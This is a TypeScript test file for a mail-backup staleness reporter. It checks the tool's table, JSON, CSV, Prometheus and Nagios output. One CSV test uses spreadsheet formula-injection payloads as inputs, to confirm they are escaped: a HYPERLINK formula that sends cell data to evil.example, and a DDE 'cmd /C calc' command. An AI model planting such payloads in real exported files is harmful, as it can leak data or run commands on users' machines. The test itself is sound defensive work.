import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { formatAge } from '../../src/units/duration.js';
import { formatBytes } from '../../src/units/size.js';
import { writeReportCsv } from '../../src/cli/output/report-csv.js';
import { reportJsonChunks, reportToJson } from '../../src/cli/output/report-json.js';
import { writeReportNagios } from '../../src/cli/output/report-nagios.js';
import { writeReportPrometheus } from '../../src/cli/output/report-prometheus.js';
import { writeReportTable } from '../../src/cli/output/report-table.js';
import type { Classification, UserStatus } from '../../src/staleness/classify.js';
import { buildReport } from '../../src/staleness/report.js';
import { isoTime } from '../../src/units/time.js';
import fc from 'fast-check';
import { fuzzSettings } from '../support/fuzz-settings.js';
import { userStatus } from '../support/user-status.js';

const NOW = Date.parse('2026-11-23T12:00:00Z');
const H = 3_600_000;
const MAX_AGE = 24 * H;
/** maintenance.verifyEvery's default. */
const VERIFY_EVERY = 30 * 24 * H;

const user = (userid: string, state: UserStatus['state'], age: number | null, extra: Partial<UserStatus> = {}): UserStatus =>
  userStatus(userid, state, age, NOW, extra);

const classification: Classification = {
  coverage: 'complete',
  users: [
    user('anne', 'fresh', 2 * H, { behind: { mailboxes: 2, messages: 5, bytes: null }, comparedAt: NOW - 60_000 }),
    user('bob', 'stale', 50 * H + 30 * 60_000, { comparedAt: NOW - 60_000, lastInSync: NOW - 50 * H }),
    user('carol, "the boss"', 'failing', 30 * H, {
      error: '3 failed attempts in a row; last: Mailbox is locked',
      lastAttempt: { startedAt: NOW - H, outcome: 'no', error: 'Mailbox is locked' },
    }),
    user('dave', 'missing', null),
    user('olga', 'orphan', 900 * H, { server: null }),
  ],
};

const report = buildReport(classification, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });

describe('human units', () => {
  test('ages show the two largest units', () => {
    assert.equal(formatAge(null), 'never');
    assert.equal(formatAge(500), '0s');
    assert.equal(formatAge(42_000), '42s');
    assert.equal(formatAge(3 * 86_400_000 + 4 * H + 5 * 60_000), '3d 4h');
    assert.equal(formatAge(5 * H + 2 * 60_000), '5h 2m');
    assert.equal(formatAge(2 * 86_400_000 + 3 * 60_000), '2d');
    assert.equal(formatAge(-90_000), '-1m 30s');
  });
  test('sizes in binary units', () => {
    assert.equal(formatBytes(null), '-');
    assert.equal(formatBytes(512), '512B');
    assert.equal(formatBytes(3500), '3.4KiB');
    assert.equal(formatBytes(120 * 2 ** 20), '120MiB');
  });
});

describe('report model', () => {
  test('counts cover everyone; the oldest ignores orphans; default order is oldest first with never-backed-up on top', () => {
    assert.deepEqual(report.counts, { fresh: 1, stale: 1, missing: 1, failing: 1, unreadable: 0, orphan: 1, conflict: 0, damaged: 0 });
    assert.equal(report.oldest?.userid, 'bob');
    assert.deepEqual(report.users.map((u) => u.userid), ['dave', 'olga', 'bob', 'carol, "the boss"', 'anne']);
  });
  test('filters narrow the users but not the counts', () => {
    const r = buildReport(classification, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY }, { states: ['stale', 'fresh'], sort: 'user', limit: 1 });
    assert.deepEqual(r.users.map((u) => u.userid), ['anne']);
    assert.equal(r.counts.missing, 1);
    const byPattern = buildReport(classification, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY }, { userPatterns: ['b*', 'd%'] });
    assert.deepEqual(byPattern.users.map((u) => u.userid).sort(), ['bob', 'dave']);
  });
});

describe('table', () => {
  const text = writeReportTable(report);
  const lines = text.split('\n');

  test('aligned columns under a header, with human ages', () => {
    assert.match(lines[0]!, /^USER\s+STATE\s+SERVER\s+AGE\s+LAST BACKUP\s+BEHIND\s+SIZE\s+CHUNKS\s+DEEP VERIFY\s+LAST ATTEMPT\s+NOTE$/);
    const stateColumn = lines[0]!.indexOf('STATE');
    for (const row of lines.slice(1, 6)) assert.match(row.slice(stateColumn), /^(fresh|stale|missing|failing|orphan) /);
    assert.match(text, /bob\s+stale\s+imap1\s+2d 2h /);
    assert.match(text, /dave\s+missing\s+imap1\s+never /);
    assert.match(text, /no 1h ago\s+3 failed attempts in a row; last: Mailbox is locked/);
  });

  test('BEHIND: what the backup lacks, `in sync`, or `-` when not compared', () => {
    const column = lines[0]!.indexOf('BEHIND');
    const cell = (userid: string) => lines.find((l) => l.startsWith(`${userid} `))!.slice(column).split(/\s{2,}/)[0];
    assert.equal(cell('anne'), '5 msgs, 2 mbox');
    assert.equal(cell('bob'), 'in sync');
    assert.equal(cell('dave'), '-');
  });

  test('a summary line of counts per state', () => {
    assert.match(text, /^5 users: 1 fresh, 1 stale, 1 missing, 1 failing, 0 unreadable, 1 orphan, 0 conflict \(max age 1d; oldest 2d 2h \(bob\)\); 5 messages in 1 user not yet in the backup$/m);
  });

  test('the fleet total says what it can: nothing compared, all in sync, or only changes without new mail', () => {
    const summary = (users: UserStatus[]) => writeReportTable(buildReport({ coverage: 'complete', users }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY }));
    assert.match(summary([user('anne', 'fresh', H)]), /; no user compared with its mailboxes \(ages only\)$/m);
    assert.match(summary([user('anne', 'fresh', H, { comparedAt: NOW })]), /; the 1 user compared is in sync with its mailboxes$/m);
    assert.match(
      summary([user('anne', 'fresh', H, { comparedAt: NOW, behind: { mailboxes: 1, messages: 0, bytes: 0 } }), user('bob', 'fresh', H, { comparedAt: NOW })]),
      /; 1 of 2 users compared has changes not yet in the backup \(flags, expunges or folders; no new message\)$/m,
    );
    assert.match(
      summary([user('anne', 'fresh', H, { comparedAt: NOW, behind: { mailboxes: 1, messages: 3, bytes: 3 * 1024 } }), user('bob', 'fresh', H, { comparedAt: NOW, behind: { mailboxes: 2, messages: 309, bytes: 0 } })]),
      /; 312 messages \(3\.0KiB\) in 2 users not yet in the backup$/m,
    );
  });

  test('a histogram of ages relative to maxAge', () => {
    assert.match(text, /backup ages \(stale from 1d\):/);
    assert.match(text, /< 6h\s+1 #+$/m);
    assert.match(text, /12h – 1d\s+0$/m);
    assert.match(text, /1d – 2d\s+1 #+\s+\(stale\)$/m);
    assert.match(text, /≥ 2d\s+1 #+\s+\(stale\)$/m);
    assert.match(text, /never\s+1 #+$/m);
  });

  test('an offline report says missing users cannot be known', () => {
    const offline = writeReportTable(buildReport({ ...classification, coverage: 'none' }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY }));
    assert.match(offline, /note: no IMAP server was asked: missing users cannot be known/);
  });
});

test('JSON written in pieces is the whole report, for no user and for thousands', () => {
  for (const count of [0, 1, 2500]) {
    const users = Array.from({ length: count }, (_, i) => user(`u${i}`, i % 3 ? 'fresh' : 'stale', (i % 50) * H));
    const big = buildReport({ coverage: 'none', users }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });
    const chunks = [...reportJsonChunks(big)];
    assert.ok(count < 2000 || chunks.length > 3, 'a large report is written in several pieces');
    assert.deepEqual(JSON.parse(chunks.join('')), JSON.parse(JSON.stringify(reportToJson(big))));
    assert.equal(chunks.join('').endsWith('}\n'), true);
  }
});

test('JSON has exactly the documented shape', () => {
  const json = JSON.parse([...reportJsonChunks(report)].join(''));
  assert.deepEqual(Object.keys(json), ['generatedAt', 'classifiedAt', 'maxAgeSeconds', 'discovery', 'counts', 'behind', 'compared', 'deepVerify', 'users']);
  assert.deepEqual(json.deepVerify, { backups: 4, recent: 0, recentWithinSeconds: 30 * 86400, never: 4, oldest: null });
  assert.deepEqual(json.behind, { users: 1, mailboxes: 2, messages: 5, bytes: null });
  assert.equal(json.compared, 2);
  const anne = json.users.find((u: { userid: string }) => u.userid === 'anne');
  assert.deepEqual([anne.behind, anne.comparedAt, anne.lastInSync], [{ mailboxes: 2, messages: 5, bytes: null }, '2026-11-23T11:59:00.000Z', null]);
  const bob = json.users.find((u: { userid: string }) => u.userid === 'bob');
  assert.deepEqual([bob.behind, bob.comparedAt, bob.lastInSync], [null, '2026-11-23T11:59:00.000Z', '2026-11-21T10:00:00.000Z']);
  assert.equal(json.generatedAt, '2026-11-23T12:00:00.000Z');
  assert.equal(json.maxAgeSeconds, 86400);
  assert.equal(json.discovery, 'complete');
  const carol = json.users.find((u: { userid: string }) => u.userid.startsWith('carol'));
  assert.deepEqual(Object.keys(carol), ['userid', 'kind', 'state', 'server', 'lastBackup', 'lastVerified', 'lastDeepVerify', 'ageSeconds', 'dataFile', 'dataBytes', 'chunks', 'behind', 'comparedAt', 'lastInSync', 'error', 'lastAttempt']);
  assert.deepEqual(carol.lastAttempt, { startedAt: '2026-11-23T11:00:00.000Z', outcome: 'no', error: 'Mailbox is locked' });
  assert.equal(carol.ageSeconds, 30 * 3600);
  const dave = json.users.find((u: { userid: string }) => u.userid === 'dave');
  assert.deepEqual(
    [dave.lastBackup, dave.ageSeconds, dave.dataFile, dave.dataBytes, dave.chunks, dave.lastAttempt],
    [null, null, null, null, null, null],
  );
});

const fuzz = fuzzSettings();
test(`times are written as Date's toISOString writes them (${fuzz.describe()})`, () => {
  const edges = [0, -1, 951_782_400_000, 951_868_799_999, -62_135_596_800_000, 253_402_300_799_999, -62_135_596_800_001, 253_402_300_800_000, 1.5, 8.64e15];
  for (const ms of edges) assert.equal(isoTime(ms), new Date(ms).toISOString(), String(ms));
  fc.assert(
    fc.property(fc.integer({ min: -62_135_596_800_000, max: 253_402_300_799_999 }), (ms) => isoTime(ms) === new Date(ms).toISOString()),
    { seed: fuzz.seed, numRuns: fuzz.runs(20_000) },
  );
});

test('CSV quotes what needs quoting', () => {
  const rows = writeReportCsv(report).split('\r\n');
  assert.equal(rows[0], 'userid,state,server,lastBackup,lastVerified,ageSeconds,dataBytes,chunks,dataFile,lastAttemptAt,lastAttemptOutcome,behindMailboxes,behindMessages,behindBytes,comparedAt,lastInSync,error,lastDeepVerify');
  assert.ok(rows.includes('dave,missing,imap1,,,,,,,,,,,,,,,'));
  assert.ok(rows.some((r) => r.startsWith('"carol, ""the boss""",failing,')));
});

test('CSV: a text cell a spreadsheet would run as a formula (= + - @, tab, CR first) gets a leading \' and quotes', () => {
  const cells = (userid: string, error: string) => {
    const r = buildReport({ coverage: 'complete', users: [user(userid, 'failing', 30 * H, { error })] }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });
    return writeReportCsv(r).split('\r\n')[1]!;
  };
  for (const first of ['=', '+', '-', '@', '\t', '\r']) {
    const formula = `${first}HYPERLINK("http://evil.example/?"&A1,"x")`;
    const row = cells(formula, `${first}cmd|' /C calc'!A0`);
    const quoted = (text: string) => `"'${text.replace(/"/g, '""')}"`;
    assert.ok(row.startsWith(`${quoted(formula)},failing,`), JSON.stringify(row));
    assert.ok(row.endsWith(`,${quoted(`${first}cmd|' /C calc'!A0`)},`), JSON.stringify(row));
  }
  assert.ok(cells('anne-marie', 'a-b').startsWith('anne-marie,failing,'), 'not at the start: as it was');
  assert.ok(cells('anne-marie', 'a-b').endsWith(',a-b,'));
  const negativeAge = buildReport({ coverage: 'complete', users: [user('anne', 'fresh', -30_000)] }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });
  assert.equal(writeReportCsv(negativeAge).split('\r\n')[1]!.split(',')[5], '-30', 'a number stays a number');
});

test('Prometheus text has the per-state gauge and the oldest age', async () => {
  const text = await writeReportPrometheus(report);
  assert.match(text, /^# TYPE xbackup_users gauge$/m);
  assert.match(text, /^xbackup_users\{state="stale"\} 1$/m);
  assert.match(text, /^xbackup_users\{state="conflict"\} 0$/m);
  assert.match(text, new RegExp(`^xbackup_oldest_backup_age_seconds ${(50 * 3600 + 1800)}$`, 'm'));
  assert.match(text, /^xbackup_discovery_complete 1$/m);
  assert.match(text, /^xbackup_messages_not_in_backup 5$/m);
  assert.match(text, /^xbackup_users_behind 1$/m);
  assert.match(text, /^xbackup_users_compared 2$/m);
});

test('CSV: what is behind per user, empty when not compared, 0 when in sync', () => {
  const rows = writeReportCsv(report).split('\r\n');
  const header = rows[0]!.split(',');
  const cells = (userid: string) => {
    const row = rows.find((r) => r.startsWith(`${userid},`))!.split(',');
    return ['behindMailboxes', 'behindMessages', 'behindBytes', 'comparedAt', 'lastInSync'].map((c) => row[header.indexOf(c)]);
  };
  assert.deepEqual(cells('anne'), ['2', '5', '', '2026-11-23T11:59:00.000Z', '']);
  assert.deepEqual(cells('bob'), ['0', '0', '0', '2026-11-23T11:59:00.000Z', '2026-11-21T10:00:00.000Z']);
  assert.deepEqual(cells('dave'), ['', '', '', '', '']);
});

describe('Nagios', () => {
  test('CRITICAL for a failing user or a backup older than critAge, with perfdata per state', () => {
    const n = writeReportNagios(report, { warnAge: MAX_AGE, critAge: 2 * MAX_AGE });
    assert.equal(n.exitCode, 2);
    assert.match(n.text, /^XBACKUP CRITICAL - 1 backup older than 2d, 1 failing, 1 never backed up; oldest 2d 2h \(bob\) \| /);
    assert.match(n.text, /\| fresh=1 stale=1 missing=1 failing=1 unreadable=0 orphan=1 conflict=0 damaged=0 oldest_age=181800s;86400;172800;0 messages_not_in_backup=5;;;0 users_behind=1\n$/);
  });
  test('messages not yet in the backups: WARNING and CRITICAL from the thresholds given, never without', () => {
    const behind = (messages: number) => buildReport({ coverage: 'complete', users: [user('anne', 'fresh', H, { comparedAt: NOW, behind: { mailboxes: 1, messages, bytes: null } })] }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });
    const ages = { warnAge: MAX_AGE, critAge: 2 * MAX_AGE };
    assert.equal(writeReportNagios(behind(5000), ages).exitCode, 0, 'no thresholds: messages at risk never alarm');
    const cases: Array<[number, number]> = [[99, 0], [100, 1], [999, 1], [1000, 2]];
    for (const [messages, exitCode] of cases) {
      const n = writeReportNagios(behind(messages), { ...ages, warnMessages: 100, critMessages: 1000 });
      assert.equal(n.exitCode, exitCode, `${messages} messages`);
      if (exitCode > 0) assert.match(n.text, new RegExp(`^XBACKUP (WARNING|CRITICAL) - ${messages} messages not yet in the backup;`));
      assert.match(n.text, new RegExp(`messages_not_in_backup=${messages};100;1000;0`));
    }
  });
  test('WARNING between the thresholds', () => {
    const calm = buildReport({ coverage: 'complete', users: [user('anne', 'stale', 30 * H)] }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });
    const n = writeReportNagios(calm, { warnAge: MAX_AGE, critAge: 2 * MAX_AGE });
    assert.equal(n.exitCode, 1);
    assert.match(n.text, /^XBACKUP WARNING - 1 backup older than 1d;/);
  });
  test('OK when all is young; orphans never alarm', () => {
    const calm = buildReport({ coverage: 'complete', users: [user('anne', 'fresh', H), user('olga', 'orphan', 900 * H)] }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });
    const n = writeReportNagios(calm, { warnAge: MAX_AGE, critAge: 2 * MAX_AGE });
    assert.equal(n.exitCode, 0);
    assert.match(n.text, /^XBACKUP OK - 2 users, oldest 1h \(anne\) \|/);
  });
  test('WARNING naming the IMAP servers that could not be asked for their users', () => {
    const partial = buildReport({ coverage: 'partial', users: [user('anne', 'fresh', H)] }, { now: NOW, maxAge: MAX_AGE, verifyEvery: VERIFY_EVERY });
    const one = writeReportNagios(partial, { warnAge: MAX_AGE, critAge: 2 * MAX_AGE, unaskedServers: ['imap2'] });
    assert.equal(one.exitCode, 1);
    assert.match(one.text, /^XBACKUP WARNING - could not ask imap2 for its users; oldest 1h \(anne\) \|/);
    const two = writeReportNagios(partial, { warnAge: MAX_AGE, critAge: 2 * MAX_AGE, unaskedServers: ['imap2', 'imap3'] });
    assert.match(two.text, /^XBACKUP WARNING - could not ask imap2, imap3 for their users;/);
  });
});
